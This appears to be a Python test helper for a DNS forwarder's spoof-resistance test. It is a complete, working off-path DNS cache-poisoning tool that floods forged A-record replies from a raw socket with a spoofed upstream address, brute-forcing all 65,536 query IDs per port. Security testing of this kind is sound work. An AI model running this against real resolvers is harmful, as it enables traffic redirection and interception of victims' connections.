#!/usr/bin/env python3
# The off-path attacker of test/forward-spoof.test.ts: forged DNS replies for every one of the 65,536
# query IDs, sent from a raw socket with the upstream's address and port as their source, to each
# destination port given. The question is spelled as given (the attacker cannot know a 0x20 case) and
# the answer is one A record with the forged address. Needs root (a raw socket) and only the standard
# library. Prints one JSON line: packets sent and seconds taken.
#
#   forge-replies.py SRC_IP SRC_PORT DST_IP DST_PORT[,DST_PORT...] QNAME FORGED_IPV4

import json
import socket
import struct
import sys
import time


def question(qname):
    out = b""
    for label in qname.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0" + struct.pack("!HH", 1, 1)  # type A, class IN


def main():
    src_ip, src_port, dst_ip, dst_ports, qname, forged = sys.argv[1:7]
    # The DNS message after its ID: QR RD RA, one question, one answer pointing at the question's name.
    body = struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + question(qname)
    body += struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + socket.inet_aton(forged)
    udp_len = 8 + 2 + len(body)
    # IPv4 header: the kernel fills in the checksum and total length (raw(7), IP_HDRINCL); UDP's
    # checksum 0 means none, which IPv4 allows.
    ip_header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, socket.IPPROTO_UDP, 0,
        socket.inet_aton(src_ip), socket.inet_aton(dst_ip),
    )
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    start = time.monotonic()
    sent = 0
    for port in (int(p) for p in dst_ports.split(",")):
        pkt = bytearray(ip_header + struct.pack("!HHHH", int(src_port), port, udp_len, 0) + b"\0\0" + body)
        for qid in range(65536):
            pkt[28] = qid >> 8
            pkt[29] = qid & 0xFF
            while True:
                try:
                    sock.sendto(pkt, (dst_ip, 0))
                    break
                except BlockingIOError:
                    time.sleep(0.0005)
                except OSError as err:  # ENOBUFS: the queue is full for a moment
                    if err.errno != 105:
                        raise
                    time.sleep(0.0005)
            sent += 1
            if qid % 64 == 63:
                # Paced, so that the victim's socket buffer does not overflow and drop the right guess.
                time.sleep(0.0002)
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}), flush=True)


main()
